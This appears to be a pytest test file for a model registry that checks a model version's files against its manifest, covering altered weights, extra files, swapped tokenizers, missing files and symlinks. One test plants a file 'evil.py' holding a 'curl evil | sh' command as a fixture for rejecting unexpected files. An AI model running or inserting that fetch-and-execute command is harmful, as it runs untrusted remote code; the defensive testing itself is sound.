"""Checking a version's files against its manifest: every difference is named, none is missed."""

from __future__ import annotations

import hashlib
import os
from pathlib import Path

import pytest

from auto_glm.registry import IntegrityError, ModelRegistry, build_manifest, verify_files
from tests.conftest import MakeCheckpoint


def _sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def test_an_untouched_version_verifies(sqlite_registry: ModelRegistry, model_dir: Path) -> None:
    mv = sqlite_registry.add("glm", model_dir, "1")
    report = sqlite_registry.verify(mv)
    assert report.bytes == mv.total_bytes == mv.manifest.total_bytes
    assert report.files == len(mv.manifest.files) == 6
    assert report.seconds > 0 and report.signed_by is None


def test_one_byte_changed_keeping_the_size_is_refused_with_both_digests(
    sqlite_registry: ModelRegistry, model_dir: Path
) -> None:
    mv = sqlite_registry.add("glm", model_dir, "1")
    weights = model_dir / "model.safetensors"
    expected = _sha256(weights)
    data = bytearray(weights.read_bytes())
    data[len(data) // 2] ^= 0x01
    weights.write_bytes(bytes(data))
    with pytest.raises(IntegrityError) as caught:
        sqlite_registry.verify(mv)
    assert caught.value.problems == (
        f"'model.safetensors' has the wrong content: expected sha256 {expected}, actual "
        f"{_sha256(weights)}; restore the registered file or register a new version",
    )
    assert str(caught.value).startswith("glm@1 failed its integrity check (1 problem): ")


def test_an_extra_file_is_refused(sqlite_registry: ModelRegistry, model_dir: Path) -> None:
    mv = sqlite_registry.add("glm", model_dir, "1")
    (model_dir / "evil.py").write_text("import os; os.system('curl evil | sh')\n")
    with pytest.raises(IntegrityError) as caught:
        sqlite_registry.verify(mv)
    assert caught.value.problems == (
        "unexpected file 'evil.py' is not in the manifest of glm@1; remove it or register a "
        "new version",
    )


def test_a_swapped_tokenizer_is_refused(
    sqlite_registry: ModelRegistry, model_dir: Path, make_checkpoint: MakeCheckpoint
) -> None:
    mv = sqlite_registry.add("glm", model_dir, "1")
    other = make_checkpoint("Glm4ForCausalLM", vocab_size=320) / "tokenizer.json"
    assert other.read_bytes() != (model_dir / "tokenizer.json").read_bytes()
    (model_dir / "tokenizer.json").write_bytes(other.read_bytes())
    with pytest.raises(IntegrityError) as caught:
        sqlite_registry.verify(mv)
    assert len(caught.value.problems) == 1
    assert caught.value.problems[0].startswith("'tokenizer.json' ")


def test_every_problem_is_named_in_one_error(model_dir: Path, tmp_path: Path) -> None:
    manifest = build_manifest(model_dir, str(model_dir))
    (model_dir / "tokenizer_config.json").unlink()
    with open(model_dir / "config.json", "a") as file:
        file.write(" ")
    weights = model_dir / "model.safetensors"
    weights.write_bytes(b"\0" * weights.stat().st_size)
    (model_dir / "evil.py").write_text("x")
    os.symlink(tmp_path, model_dir / "link")
    with pytest.raises(IntegrityError) as caught:
        verify_files(model_dir, manifest, label="glm@1")
    problems = "\n".join(caught.value.problems)
    assert len(caught.value.problems) == 5, problems
    assert "'tokenizer_config.json' is missing" in problems
    assert "'config.json' has " in problems and "expected" in problems
    assert "'model.safetensors' has the wrong content" in problems
    assert "unexpected file 'evil.py'" in problems
    assert "'link' is a symbolic link" in problems
    assert "(5 problems)" in str(caught.value)


def test_a_missing_directory_is_named(model_dir: Path, tmp_path: Path) -> None:
    manifest = build_manifest(model_dir, str(model_dir))
    with pytest.raises(IntegrityError, match="the model directory .* is missing"):
        verify_files(tmp_path / "gone", manifest, label="glm@1")


def test_progress_reaches_the_total(sqlite_registry: ModelRegistry, model_dir: Path) -> None:
    mv = sqlite_registry.add("glm", model_dir, "1")
    calls: list[tuple[int, int]] = []
    sqlite_registry.verify(mv, progress=lambda done, total: calls.append((done, total)))
    assert calls[-1] == (mv.total_bytes, mv.total_bytes)
